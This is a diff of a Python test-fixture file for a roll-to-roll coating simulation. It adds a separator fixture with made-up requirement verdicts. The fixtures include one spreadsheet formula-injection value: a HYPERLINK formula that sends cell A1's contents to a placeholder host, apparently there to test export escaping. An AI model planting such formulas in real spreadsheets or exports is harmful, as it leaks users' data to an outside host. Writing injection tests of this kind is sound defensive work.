@@ -5,6 +5,7 @@ from __future__ import annotations
 import math
 from dataclasses import replace
 
+from r2r_sim.catalog import Verdict
 from r2r_sim.cost.breakdown import Behaviour, CostBreakdown, CostItem, LabourRow, Price, UnitCost
 from r2r_sim.errors import Finding
 from r2r_sim.kpi.table import (
@@ -23,6 +24,7 @@ from r2r_sim.kpi.table import (
 from r2r_sim.process.operating_point import Alternative, Consumption, Growth, Limit, OperatingPoint, Step
 from r2r_sim.scenario import InputRow
 from r2r_sim.study.result import Check, EstimateRow, Provenance, StudyResult, Target
+from r2r_sim.study.separator import CoatedSeparator
 
 EVIL = '=HYPERLINK("http://example.invalid/?q="&A1,"click me")'
 LONG = "a very long name of a thing in the plant that nobody would ever use but somebody will, " * 3
@@ -354,6 +356,17 @@ def provenance(replications: int) -> Provenance:
     )
 
 
+def _coated() -> CoatedSeparator:
+    """One requirement met, one missed by the coating, one that nothing is calculated for."""
+    source = "made up, table 8"
+    verdicts = (
+        Verdict("thickness", "20 to 25 um", "um", 20.0, 25.0, 25.0, 25.01, True, True, source, "thinner ones sell too"),
+        Verdict("porosity", "40 to 60 %", "%", 40.0, 60.0, 50.0, 35.4, True, False, source, ""),
+        Verdict("shrinkage when hot", "less than 5 %", "%", None, 5.0, None, None, None, None, source, ""),
+    )
+    return CoatedSeparator("coater", verdicts)
+
+
 def web(replications: int = 20, *, holes: bool = False) -> StudyResult:
     """A web line that misses its target; with ``holes`` some prices are not stated."""
     good, nameplate = 9843.217, 13511.5
@@ -396,6 +409,7 @@ def web(replications: int = 20, *, holes: bool = False) -> StudyResult:
     main = kpis("web", good, good * 0.0123 / 1000, replications)
     cost = breakdown(items, per_year, by_area=True, use=use, value=None, substrate=1.0)
     return StudyResult(
+        separators=(_coated(),),
         name="5 nm Al2O3 on both faces of a Celgard-type separator, <b>bold</b> & 中文 plans",
         description="What one line gives when the TMA cabinet is shared. " + LONG,
         product="web",
